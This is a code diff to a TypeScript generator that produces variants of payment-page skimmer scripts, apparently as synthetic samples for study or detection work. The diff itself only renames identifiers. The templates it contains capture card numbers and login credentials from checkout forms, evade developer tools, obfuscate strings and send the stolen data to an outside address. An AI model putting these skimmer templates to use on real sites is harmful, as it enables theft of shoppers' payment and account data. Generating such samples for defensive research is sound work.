@@ -88,7 +88,7 @@ const MORE_FIELDS = [
 ]
 
 /** Code that puts the page's fields into the variable `into`. */
-export function harvest(v: Variation, into: string): string {
+export function skim(v: Variation, into: string): string {
   const [a, b, c] = [v.id(10), v.id(11), v.id(12)]
   const fields = [v.pick(CARD_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS)]
   return v.pick([
@@ -122,25 +122,25 @@ export const SKIMMERS: readonly Family[] = [
   skimmer('fields at an interval', (v) =>
     onCheckout(
       v,
-      `setInterval(function(){${harvest(v, v.id(0))}if(${v.id(0)}.length>${v.number(5, 60)}){${leave(v, v.id(0))}}},${v.number(3, 50) * 100});`,
+      `setInterval(function(){${skim(v, v.id(0))}if(${v.id(0)}.length>${v.number(5, 60)}){${leave(v, v.id(0))}}},${v.number(3, 50) * 100});`,
     ),
   ),
   skimmer(
     'fields at a click',
     (v) =>
-      `window.addEventListener('load',function(){${onCheckout(v, `var ${v.id(1)}=document.querySelectorAll('a[href*="javascript:void"],button,input,submit,.btn,.button');for(var i=0;i<${v.id(1)}.length;i++){${v.id(1)}[i].addEventListener('${v.pick(['click', 'mousedown', 'touchstart'])}',function(){${harvest(v, v.id(0))}${leave(v, v.id(0))}})}`)}});`,
+      `window.addEventListener('load',function(){${onCheckout(v, `var ${v.id(1)}=document.querySelectorAll('a[href*="javascript:void"],button,input,submit,.btn,.button');for(var i=0;i<${v.id(1)}.length;i++){${v.id(1)}[i].addEventListener('${v.pick(['click', 'mousedown', 'touchstart'])}',function(){${skim(v, v.id(0))}${leave(v, v.id(0))}})}`)}});`,
   ),
   skimmer('fields at submission', (v) =>
     v.pick([
-      `jQuery(document).ready(function(){jQuery('form').${v.pick(['submit(', "on('submit',"])}function(){${harvest(v, v.id(0))}${leave(v, v.id(0))}return true})});`,
-      `document.addEventListener('submit',function(e){${harvest(v, v.id(0))}${leave(v, v.id(0))}},true);`,
-      `for(var k=0;k<document.forms.length;k++){document.forms[k].onsubmit=function(){${harvest(v, v.id(0))}${leave(v, v.id(0))}}}`,
+      `jQuery(document).ready(function(){jQuery('form').${v.pick(['submit(', "on('submit',"])}function(){${skim(v, v.id(0))}${leave(v, v.id(0))}return true})});`,
+      `document.addEventListener('submit',function(e){${skim(v, v.id(0))}${leave(v, v.id(0))}},true);`,
+      `for(var k=0;k<document.forms.length;k++){document.forms[k].onsubmit=function(){${skim(v, v.id(0))}${leave(v, v.id(0))}}}`,
     ]),
   ),
   skimmer(
     'once sent, remembered',
     (v) =>
-      `(function(){var ${v.id(3)}='${v.key(6)}';function ${v.id(4)}(){${harvest(v, v.id(0))}if(${v.id(0)}!=localStorage.getItem(${v.id(3)})&&${CARD_TEST[1] ?? ''}.test(${v.id(0)})){localStorage.setItem(${v.id(3)},${v.id(0)});${leave(v, v.id(0))}}}${onCheckout(v, `setInterval(${v.id(4)},${v.number(5, 20) * 100})`)}})();`,
+      `(function(){var ${v.id(3)}='${v.key(6)}';function ${v.id(4)}(){${skim(v, v.id(0))}if(${v.id(0)}!=localStorage.getItem(${v.id(3)})&&${CARD_TEST[1] ?? ''}.test(${v.id(0)})){localStorage.setItem(${v.id(3)},${v.id(0)});${leave(v, v.id(0))}}}${onCheckout(v, `setInterval(${v.id(4)},${v.number(5, 20) * 100})`)}})();`,
   ),
   skimmer(
     'staged in storage',
@@ -150,7 +150,7 @@ export const SKIMMERS: readonly Family[] = [
   skimmer(
     'staged in a cookie',
     (v) =>
-      `function ${v.id(0)}(n,t){document.cookie=n+'='+escape(t)+';path=/'}jQuery('body').on('change','#${v.pick(CARD_FIELDS)}',function(){${v.id(0)}('${v.key(4)}',jQuery(this).val())});window.onbeforeunload=function(){var ${v.id(1)}=document.cookie.match(/${v.key(4)}=([^;]*)/);${harvest(v, v.id(2))}${leave(v, v.id(2))}};`,
+      `function ${v.id(0)}(n,t){document.cookie=n+'='+escape(t)+';path=/'}jQuery('body').on('change','#${v.pick(CARD_FIELDS)}',function(){${v.id(0)}('${v.key(4)}',jQuery(this).val())});window.onbeforeunload=function(){var ${v.id(1)}=document.cookie.match(/${v.key(4)}=([^;]*)/);${skim(v, v.id(2))}${leave(v, v.id(2))}};`,
   ),
   skimmer(
     'single field events',
@@ -170,7 +170,7 @@ export const SKIMMERS: readonly Family[] = [
   skimmer(
     'hidden from developers',
     (v) =>
-      `(function(){var ${v.id(0)}={open:false};var ${v.id(1)}=${v.number(120, 200)};setInterval(function(){var w=window.outerWidth-window.innerWidth>${v.id(1)};var h=window.outerHeight-window.innerHeight>${v.id(1)};${v.id(0)}.open=w||h||(window.Firebug&&window.Firebug.chrome&&window.Firebug.chrome.isInitialized);${v.chance(0.5) ? `window.dispatchEvent(new CustomEvent('devtoolschange',{detail:{open:${v.id(0)}.open}}));` : ''}},500);${onCheckout(v, `setInterval(function(){if(${v.id(0)}.open)return;${harvest(v, v.id(2))}if(${v.pick(CARD_TEST)}.test(${v.id(2)})){${leave(v, v.id(2))}}},${v.number(6, 15) * 100})`)}})();`,
+      `(function(){var ${v.id(0)}={open:false};var ${v.id(1)}=${v.number(120, 200)};setInterval(function(){var w=window.outerWidth-window.innerWidth>${v.id(1)};var h=window.outerHeight-window.innerHeight>${v.id(1)};${v.id(0)}.open=w||h||(window.Firebug&&window.Firebug.chrome&&window.Firebug.chrome.isInitialized);${v.chance(0.5) ? `window.dispatchEvent(new CustomEvent('devtoolschange',{detail:{open:${v.id(0)}.open}}));` : ''}},500);${onCheckout(v, `setInterval(function(){if(${v.id(0)}.open)return;${skim(v, v.id(2))}if(${v.pick(CARD_TEST)}.test(${v.id(2)})){${leave(v, v.id(2))}}},${v.number(6, 15) * 100})`)}})();`,
   ),
   skimmer(
     'kit with an object of fields',
@@ -180,7 +180,7 @@ export const SKIMMERS: readonly Family[] = [
   skimmer(
     'counter as a cover',
     (v) =>
-      `<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)}})(window,document,'script','//www.google-analytics.example/analytics.js','ga');ga('create','UA-${v.number(10000, 99999)}-1','auto');</script><script>${onCheckout(v, `${harvest(v, v.id(0))}document.querySelector('button').onclick=function(){${harvest(v, v.id(1))}${leave(v, v.id(1))}}`)}</script>`,
+      `<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)}})(window,document,'script','//www.google-analytics.example/analytics.js','ga');ga('create','UA-${v.number(10000, 99999)}-1','auto');</script><script>${onCheckout(v, `${skim(v, v.id(0))}document.querySelector('button').onclick=function(){${skim(v, v.id(1))}${leave(v, v.id(1))}}`)}</script>`,
   ),
   skimmer('loader for payment pages', (v) => {
     const to = Buffer.from(v.address()).toString('base64')
@@ -203,12 +203,12 @@ export const SKIMMERS: readonly Family[] = [
   skimmer(
     'account and card at log-in',
     (v) =>
-      `jQuery(function($){$('#login-form,#customer-form,form.login').on('submit',function(){var ${v.id(0)}='l='+$('input[name="login[username]"]').val()+'&p='+$('input[name="login[password]"],input[type=password]').val()+'&u='+location.host;${leave(v, v.id(0))}});$('#opc-payment,.payment-methods').on('click',function(){${harvest(v, v.id(1))}${leave(v, v.id(1))}})});`,
+      `jQuery(function($){$('#login-form,#customer-form,form.login').on('submit',function(){var ${v.id(0)}='l='+$('input[name="login[username]"]').val()+'&p='+$('input[name="login[password]"],input[type=password]').val()+'&u='+location.host;${leave(v, v.id(0))}});$('#opc-payment,.payment-methods').on('click',function(){${skim(v, v.id(1))}${leave(v, v.id(1))}})});`,
   ),
   skimmer(
     'patched requests',
     (v) =>
-      `(function(){var ${v.id(0)}=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{if(b&&${v.pick(CARD_TEST)}.test(b)){${harvest(v, v.id(1))}${leave(v, v.id(1))}}}catch(e){}return ${v.id(0)}.apply(this,arguments)}})();`,
+      `(function(){var ${v.id(0)}=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{if(b&&${v.pick(CARD_TEST)}.test(b)){${skim(v, v.id(1))}${leave(v, v.id(1))}}}catch(e){}return ${v.id(0)}.apply(this,arguments)}})();`,
   ),
   skimmer(
     'old shop with Prototype',
@@ -216,13 +216,13 @@ export const SKIMMERS: readonly Family[] = [
       `document.observe('dom:loaded',function(){$$('button.btn-checkout').each(function(b){b.observe('click',function(){var ${v.id(0)}=Form.serialize('co-billing-form')+'&'+Form.serialize($('co-payment-form'))+'&n='+$F('${v.pick(CARD_FIELDS)}')+'&c='+$('ccsave_cc_cid').value;new Ajax.Request('${v.address()}',{method:'post',parameters:${v.id(0)}});${leave(v, v.id(0))}})})});`,
   ),
   skimmer('words put together', (v) => {
-    const pieces = ['inp', 'ut', 'val', 'ue', 'sel', 'ect', 'quer', 'ySelectorAll', 'na', 'me']
+    const chunks = ['inp', 'ut', 'val', 'ue', 'sel', 'ect', 'quer', 'ySelectorAll', 'na', 'me']
     const [g] = [v.id(0)]
-    return `var ${g}=${JSON.stringify(pieces)};(function(d,w){w['set'+'Interval'](function(){var r='';var e=d[${g}[6]+${g}[7]](${g}[0]+${g}[1]+','+${g}[4]+${g}[5]);for(var i=0;i<e.length;i++)r+=e[i][${g}[8]+${g}[9]]+':'+e[i][${g}[2]+${g}[3]]+';';if(r!=w.${v.id(1)}&&/\\d{12,}/.test(r.replace(/\\s/g,''))){w.${v.id(1)}=r;${leave(v, 'r')}}},${v.number(5, 30) * 100})})(document,window);`
+    return `var ${g}=${JSON.stringify(chunks)};(function(d,w){w['set'+'Interval'](function(){var r='';var e=d[${g}[6]+${g}[7]](${g}[0]+${g}[1]+','+${g}[4]+${g}[5]);for(var i=0;i<e.length;i++)r+=e[i][${g}[8]+${g}[9]]+':'+e[i][${g}[2]+${g}[3]]+';';if(r!=w.${v.id(1)}&&/\\d{12,}/.test(r.replace(/\\s/g,''))){w.${v.id(1)}=r;${leave(v, 'r')}}},${v.number(5, 30) * 100})})(document,window);`
   }),
   skimmer(
     'one word, encrypted',
     (v) =>
-      `(function(){function ${v.id(0)}(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return btoa(o)}${onCheckout(v, `document.addEventListener('${v.pick(['click', 'mouseup'])}',function(e){if(!e.target.closest('${v.pick(['.action', '#checkout', 'button', '[type=submit]'])}'))return;${harvest(v, v.id(1))}var ${v.id(2)}=${v.id(0)}(${v.id(1)},'${v.key(8)}');${leave(v, v.id(2))}})`)}})();`,
+      `(function(){function ${v.id(0)}(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return btoa(o)}${onCheckout(v, `document.addEventListener('${v.pick(['click', 'mouseup'])}',function(e){if(!e.target.closest('${v.pick(['.action', '#checkout', 'button', '[type=submit]'])}'))return;${skim(v, v.id(1))}var ${v.id(2)}=${v.id(0)}(${v.id(1)},'${v.key(8)}');${leave(v, v.id(2))}})`)}})();`,
   ),
 ]
